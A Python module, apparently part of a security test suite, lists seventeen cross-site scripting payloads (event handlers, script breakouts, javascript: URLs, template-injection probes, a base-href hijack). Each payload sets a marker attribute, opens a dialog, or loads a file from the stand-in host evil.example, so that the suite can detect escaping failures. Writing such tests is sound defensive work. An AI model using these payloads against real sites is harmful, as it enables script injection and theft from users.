"""XSS payloads for the suite: each one, if it ever ran, would leave its own marker in the page.

A payload that executes sets `document.documentElement.dataset.pwned` to its number (or opens a dialog,
or asks for a file from another host); the browser guard and the suite look for all three. Every
payload is shorter than the model format's 300-character limit for short text, with room for a suffix.
"""

from __future__ import annotations

from dataclasses import dataclass

PWNED = "document.documentElement.dataset.pwned"


def _mark(n: int) -> str:
    return f"{PWNED}='{n}'"


@dataclass(frozen=True)
class Payload:
    name: str
    text: str


PAYLOADS: tuple[Payload, ...] = (
    Payload("img-onerror", f'<img src=x onerror="{_mark(1)}">'),
    Payload("close-script", f"</script><script>{_mark(2)}</script>"),
    Payload("attr-break-svg", f'"><svg onload="{_mark(3)}">'),
    Payload("javascript-text", f"javascript:{_mark(4)}//"),
    Payload("iframe-srcdoc", f'<iframe srcdoc="<script>parent.{_mark(5)}</script>"></iframe>'),
    Payload("template-probes", "{{7*7}} ${7*7} #{7*7} {{constructor.constructor('alert(6)')()}}"),
    Payload("anchor-javascript", f'<a href="javascript:{_mark(7)}">open me</a>'),
    Payload("odd-case-event", f'<IMG SRC=x OnErRoR="{_mark(8)}">'),
    Payload("style-import", "<style>@import 'http://evil.example/9.css';</style>"),
    Payload("line-separators", f"line\u2028sep\u2029</script><script>{_mark(10)}</script>"),
    Payload("comment-script", f"<!--<script>{_mark(11)}</script>-->"),
    Payload("entities", f"&lt;script&gt;{_mark(12)}&lt;/script&gt; &#60;img src=x onerror=alert(12)&#62;"),
    Payload("css-expression", '<div style="width:expression(alert(13));background:url(//evil.example/13)">'),
    Payload("meta-refresh", f'<meta http-equiv="refresh" content="0;url=javascript:{_mark(14)}">'),
    Payload("base-href", f'<base href="//evil.example/"><script src="15.js"></script><b>{_mark(15)}</b>'),
    Payload("details-ontoggle", f'<details open ontoggle="{_mark(16)}"><summary>x</summary></details>'),
    Payload("svg-animate", f'<svg><animate onbegin="{_mark(17)}" attributeName=x dur=1s></svg>'),
)
# Elements a payload would add if it were parsed as markup; the page has its own count of each.
WATCHED_TAGS = ("img", "svg", "iframe", "script", "style", "meta", "base", "object", "embed", "link", "a")
